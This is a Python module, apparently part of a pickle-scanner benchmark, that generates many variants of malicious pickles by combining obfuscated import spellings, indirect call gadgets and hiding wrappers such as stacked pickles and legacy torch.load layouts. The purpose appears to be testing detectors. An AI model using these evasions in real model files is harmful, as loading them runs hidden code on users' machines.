"""The ways to spell an import, to get it called, and to hide the call in a pickle."""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import TYPE_CHECKING

from bench.detection.assembler import Assembler, Call, Ref, frame, pickled, plain_global, text, unicode

if TYPE_CHECKING:
    from collections.abc import Callable

    from bench.detection.gadgets import Gadget

    Spell = Callable[[Assembler, str, str], bytes]
    Called = Callable[[Assembler, Gadget], bytes]
    Hidden = Callable[[bytes], bytes]


# --- how an import is spelt ---


def _slots(asm: Assembler) -> tuple[bytes, bytes]:
    return struct.pack("<I", next(asm.memo)), struct.pack("<I", next(asm.memo))


def _via_memo(asm: Assembler, module: str, name: str) -> bytes:
    first, second = _slots(asm)
    stored = unicode(name) + b"r" + second + b"0" + unicode(module) + b"r" + first + b"0"
    return stored + b"j" + first + b"j" + second + b"\x93"


def _overwritten_memo(asm: Assembler, module: str, name: str) -> bytes:
    slot, _ = _slots(asm)
    decoy = unicode("collections") + b"r" + slot + b"0"
    return decoy + unicode(module) + b"r" + slot + b"0" + b"j" + slot + unicode(name) + b"\x93"


def _dup(asm: Assembler, module: str, name: str) -> bytes:
    slot, _ = _slots(asm)
    return unicode(module) + b"2" + b"r" + slot + b"0" + unicode(name) + b"\x93"


def _marked(_: Assembler, module: str, name: str) -> bytes:
    return unicode(module) + b"(NNN1" + unicode(name) + b"\x93"


def _split_text(_: Assembler, module: str, name: str) -> bytes:
    escaped = "".join(f"\\u{ord(letter):04x}" for letter in module).encode()
    return b"V" + escaped + b"\n" + text(name) + b"\x93"


def _binstring(_: Assembler, module: str, name: str) -> bytes:
    return (
        b"U"
        + bytes([len(module)])
        + module.encode()
        + b"T"
        + struct.pack("<I", len(name.encode()))
        + name.encode()
        + b"\x93"
    )


def _binunicode8(_: Assembler, module: str, name: str) -> bytes:
    def long(value: str) -> bytes:
        return b"\x8d" + struct.pack("<Q", len(value.encode())) + value.encode()

    return long(module) + long(name) + b"\x93"


def _memoized(asm: Assembler, module: str, name: str) -> bytes:
    """As CPython's own pickler writes it."""
    return unicode(module) + b"\x94" + unicode(name) + b"\x94\x93\x94"


SPELLINGS: dict[str, Spell] = {
    "global": plain_global,
    "stack-global": lambda _, module, name: unicode(module) + unicode(name) + b"\x93",
    "stack-global-memoized": _memoized,
    "stack-global-via-memo": _via_memo,
    "stack-global-overwritten-memo": _overwritten_memo,
    "stack-global-dup": _dup,
    "stack-global-pop-mark": _marked,
    "stack-global-text": _split_text,
    "stack-global-binstring": _binstring,
    "stack-global-binunicode8": _binunicode8,
}
"""How an import is spelt."""


# --- how it is called ---


def _partial(gadget: Gadget) -> tuple[object, ...]:
    return (Ref(gadget.module, gadget.name), *gadget.arguments)


def _function(gadget: Gadget) -> Ref:
    return Ref(gadget.module, gadget.name)


def _inst(asm: Assembler, gadget: Gadget) -> bytes:
    arguments = b"".join(map(asm.push, gadget.arguments))
    return b"(" + arguments + f"i{gadget.module}\n{gadget.name}\n".encode()


def _obj(asm: Assembler, gadget: Gadget) -> bytes:
    return b"(" + asm.push(_function(gadget)) + b"".join(map(asm.push, gadget.arguments)) + b"o"


def _newobj_partial(asm: Assembler, gadget: Gadget) -> bytes:
    return asm.push(Ref("functools", "partial")) + asm.push(_partial(gadget)) + b"\x81)R"


def _newobj_ex_partial(asm: Assembler, gadget: Gadget) -> bytes:
    return asm.push(Ref("functools", "partial")) + asm.push(_partial(gadget)) + b"}\x92)R"


def _build_partial(asm: Assembler, gadget: Gadget) -> bytes:
    state: tuple[object, ...] = (_function(gadget), gadget.arguments, {}, None)
    harmless = asm.push(Call(Ref("functools", "partial"), (Ref("builtins", "len"),)))
    return harmless + asm.push(state) + b"b)R"


def _setstate_attribute(asm: Assembler, gadget: Gadget) -> bytes:
    """An OrderedDict whose attribute ``__setstate__`` is the function: the next BUILD calls it."""
    holder = asm.push(Call(Ref("collections", "OrderedDict"), ()))
    return holder + asm.push({"__setstate__": _function(gadget)}) + b"b" + asm.push(gadget.arguments[0]) + b"b"


def _extension(asm: Assembler, gadget: Gadget) -> bytes:
    """The copyreg registry is filled by the pickle itself, then EXT1 imports without naming."""
    register = asm.push(Call(Ref("copyreg", "add_extension"), (gadget.module, gadget.name, 0xF0))) + b"0"
    return register + b"\x82\xf0" + asm.push(gadget.arguments) + b"R"


def _module_getattr(asm: Assembler, gadget: Gadget) -> bytes:
    """The name is only ever a string: getattr of what import_module returned."""
    module = Call(Ref("importlib", "import_module"), (gadget.module,))
    function = Call(Ref("builtins", "getattr"), (module, gadget.name))
    return asm.push(Call(function, gadget.arguments))


def _map(consumer: Ref) -> Called:
    def called(asm: Assembler, gadget: Gadget) -> bytes:
        lazily = asm.push(Ref("itertools", "starmap")) + asm.push((_function(gadget), [gadget.arguments])) + b"\x81"
        return asm.push(consumer) + lazily + b"\x85R"

    return called


def _new_consumer(asm: Assembler, gadget: Gadget) -> bytes:
    lazily = asm.push(Ref("itertools", "starmap")) + asm.push((_function(gadget), [gadget.arguments])) + b"\x81"
    return asm.push(Ref("builtins", "tuple")) + lazily + b"\x85\x81"


def _through(wrapper: Callable[[Gadget], Call]) -> Called:
    return lambda asm, gadget: asm.push(wrapper(gadget))


CALLS: dict[str, Called] = {
    "reduce": _through(lambda g: Call(_function(g), g.arguments)),
    "inst": _inst,
    "obj": _obj,
    "newobj-partial": _newobj_partial,
    "newobj-ex-partial": _newobj_ex_partial,
    "build-partial": _build_partial,
    "partial-reduce": _through(lambda g: Call(Call(Ref("functools", "partial"), _partial(g)), ())),
    "setstate-attribute": _setstate_attribute,
    "extension": _extension,
    "import-getattr": _module_getattr,
    "map-list": _map(Ref("builtins", "list")),
    "map-deque": _map(Ref("collections", "deque")),
    "map-ordereddict": _map(Ref("collections", "OrderedDict")),
    "map-any": _map(Ref("builtins", "any")),
    "map-newobj": _new_consumer,
    "operator-call": _through(lambda g: Call(Ref("operator", "call"), _partial(g))),
    "methodcaller": _through(
        lambda g: Call(
            Call(Ref("operator", "methodcaller"), (g.name, *g.arguments)),
            (Call(Ref("builtins", "__import__"), (g.module,)),),
        )
    ),
    "method-type": _through(
        lambda g: Call(Call(Ref("types", "MethodType"), (_function(g), g.arguments[0])), g.arguments[1:])
    ),
    "reduce-function": _through(lambda g: Call(Ref("functools", "reduce"), (_function(g), [g.arguments[0], 0]))),
    "lru-cache": _through(lambda g: Call(Call(Ref("functools", "lru_cache"), (_function(g),)), g.arguments)),
    "thread": _through(lambda g: Call(Ref("_thread", "start_new_thread"), (_function(g), g.arguments))),
    "atexit": _through(lambda g: Call(Ref("atexit", "register"), _partial(g))),
    "finalize": _through(lambda g: Call(Ref("weakref", "finalize"), (Ref("collections", "OrderedDict"), *_partial(g)))),
    "contextvars": _through(
        lambda g: Call(Ref("contextvars", "Context.run"), (Call(Ref("contextvars", "Context"), ()), *_partial(g)))
    ),
    "defaultdict": _through(
        lambda g: Call(
            Ref("operator", "getitem"),
            (Call(Ref("collections", "defaultdict"), (Call(Ref("functools", "partial"), _partial(g)),)), 0),
        )
    ),
    "rebuild-from-type": _through(
        lambda g: Call(
            Ref("torch._tensor", "_rebuild_from_type_v2"), (_function(g), Ref("builtins", "object"), g.arguments, {})
        )
    ),
    "numpy-vectorize": _through(lambda g: Call(Call(Ref("numpy", "vectorize"), (_function(g),)), g.arguments)),
    "resolve-name": _through(
        lambda g: Call(Call(Ref("pkgutil", "resolve_name"), (f"{g.module}:{g.name}",)), g.arguments)
    ),
    "sys-modules": _through(
        lambda g: Call(
            Call(Ref("builtins", "getattr"), (Call(Ref("sys", "modules.get"), (g.module,)), g.name)), g.arguments
        )
    ),
    "call-method": _through(lambda g: Call(Ref(g.module, f"{g.name}.__call__"), g.arguments)),
    "copyreg-newobj": _through(
        lambda g: Call(Call(Ref("copyreg", "__newobj__"), (Ref("functools", "partial"), *_partial(g))), ())
    ),
}
"""How the import is called."""

DOTTED: dict[str, tuple[tuple[str, str], ...]] = {
    "os": (
        ("shutil", "os"),
        ("random", "_os"),
        ("logging", "os"),
        ("torch.serialization", "os"),
        ("numpy", "os"),
        ("sklearn.base", "os"),
    ),
    "builtins": (("collections", "_sys.modules"), ("functools", "reduce.__self__")),
    "subprocess": (
        ("platform", "subprocess"),
        ("torch.utils.collect_env", "subprocess"),
        ("asyncio.subprocess", "subprocess"),
    ),
    "urllib.request": (("urllib", "request"), ("pip._vendor.requests", "compat")),
    "torch.hub": (("torch", "hub"),),
}
"""Modules that are reached as an attribute of another one."""


# --- how the call is hidden in the pickle ---


@dataclass(frozen=True, slots=True)
class Hiding:
    """Makes a pickle around opcodes that leave one value on the stack."""

    id: str
    make: Hidden
    whole: bool = False
    """It takes and gives a whole pickle."""
    loader: str = "pickle"
    """What has to read the file for the attack to fire."""


_BENIGN = pickled(b"}" + unicode("lr") + b"G\x3f\x50\x62\x4d\xd2\xf1\xa9\xfcs")
_LEGACY_MAGIC = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
_LEGACY_INFO = b"\x80\x02}q\0(X\x10\0\0\0protocol_versionq\1M\xe9\x03X\r\0\0\0little_endianq\2\x88u."


def _nested(module: str, name: str) -> Hidden:
    def make(evil: bytes) -> bytes:
        return pickled(Assembler().push(Call(Ref(module, name), (evil,))))

    return make


def _legacy(position: int) -> Hidden:
    def make(evil: bytes) -> bytes:
        pickles = [_LEGACY_MAGIC, b"\x80\x02M\xe9\x03.", _LEGACY_INFO, b"\x80\x02}.", b"\x80\x02]."]
        pickles[position] = evil
        return b"".join(pickles)

    return make


def _straddled(body: bytes) -> bytes:
    return pickled(frame(3) + b"N0" + body)


def _framed(body: bytes) -> bytes:
    return pickled(frame(len(body) + 1) + body)


def _big_dict(body: bytes) -> bytes:
    items = b"".join(unicode(f"layer.{n}.weight") + b"K\x01" for n in range(1500))
    return pickled(b"}(" + items + b"u" + unicode("x") + body + b"s")


_STATE_DICT = b"ccollections\nOrderedDict\n)R"

HIDINGS: tuple[Hiding, ...] = (
    Hiding("plain", pickled),
    Hiding("protocol-2", lambda body: pickled(body, 2)),
    Hiding("no-protocol", lambda body: pickled(body, None)),
    Hiding("protocol-5", lambda body: pickled(body, 5)),
    Hiding("framed", _framed),
    Hiding("frame-straddling", _straddled),
    Hiding("frame-too-long", lambda body: pickled(frame(1 << 20) + body)),
    Hiding("frame-empty", lambda body: pickled(frame(0) + frame(0) + body)),
    Hiding("result-popped", lambda body: pickled(body + b"0}")),
    Hiding("result-popped-to-mark", lambda body: pickled(b"(" + body + b"1}")),
    Hiding("result-dup-popped", lambda body: pickled(body + b"200" + _STATE_DICT)),
    Hiding("empty-build", lambda body: pickled(_STATE_DICT + b"}b" + body + b"0}b")),
    Hiding("build-hides-result", lambda body: pickled(_STATE_DICT + body + b"b")),
    Hiding("value-of-a-dict", lambda body: pickled(b"}" + unicode("x") + body + b"s")),
    Hiding("key-of-a-dict", lambda body: pickled(b"}(" + body + b"Nu")),
    Hiding("in-a-set", lambda body: pickled(b"\x8f(" + body + b"\x90")),
    Hiding("in-a-frozenset", lambda body: pickled(b"(" + body + b"\x91")),
    Hiding("in-a-tuple", lambda body: pickled(body + b"\x85\x85\x85")),
    Hiding("deep", lambda body: pickled(b"]" * 200 + body + b"a" * 200)),
    Hiding("after-a-big-dict", _big_dict),
    Hiding(
        "after-a-long-string", lambda body: pickled(b"X" + struct.pack("<I", 300_000) + b"x" * 300_000 + b"0" + body)
    ),
    Hiding("after-opcodes-in-a-string", lambda body: pickled(unicode(".\x80\x04.") + b"0" + body)),
    Hiding("memo-noise", lambda body: pickled(b"".join(b"K\x01q" + bytes([n]) + b"0" for n in range(250)) + body)),
    Hiding("proto-twice", lambda body: pickled(b"\x80\x02\x80\x04" + body)),
    Hiding("then-unknown-opcode", lambda body: b"\x80\x04" + body + b"\xff."),
    Hiding("then-truncated", lambda body: b"\x80\x04" + body + b"X\xff\xff\0\0"),
    Hiding("then-end-of-file", lambda body: b"\x80\x04" + body),
    Hiding("then-stack-underflow", lambda body: pickled(body + b"0000")),
    Hiding("then-missing-memo", lambda body: pickled(body + b"h\xee")),
    Hiding("then-invalid-import", lambda body: pickled(body + b"NN\x93")),
    Hiding("then-persistent-id", lambda body: pickled(body + b"0Pstorage\n")),
    Hiding("before-state-dict", lambda body: pickled(body + b"0" + _STATE_DICT + b"(" + unicode("w") + b"K\x01u", 2)),
    Hiding("stacked-second", lambda evil: _BENIGN + evil, whole=True, loader="pickle, twice"),
    Hiding("stacked-500th", lambda evil: _BENIGN * 499 + evil, whole=True, loader="pickle, 500 times"),
    Hiding("stacked-after-zeros", lambda evil: _BENIGN + b"\0" * 4096 + evil, whole=True, loader="pickle at an offset"),
    Hiding(
        "stacked-after-garbage",
        lambda evil: _BENIGN + b"\xff\xfe junk \0" + evil,
        whole=True,
        loader="pickle at an offset",
    ),
    Hiding("nested-pickle-loads", _nested("pickle", "loads"), whole=True),
    Hiding("nested-c-pickle-loads", _nested("_pickle", "loads"), whole=True),
    Hiding(
        "nested-load-from-bytes",
        lambda evil: _nested("torch.storage", "_load_from_bytes")(_legacy(3)(evil)),
        whole=True,
    ),
    Hiding("legacy-first", _legacy(0), whole=True, loader="torch.load"),
    Hiding("legacy-third", _legacy(2), whole=True, loader="torch.load"),
    Hiding("legacy-fourth", _legacy(3), whole=True, loader="torch.load"),
    Hiding("legacy-fifth", _legacy(4), whole=True, loader="torch.load"),
)
"""How the call is hidden."""
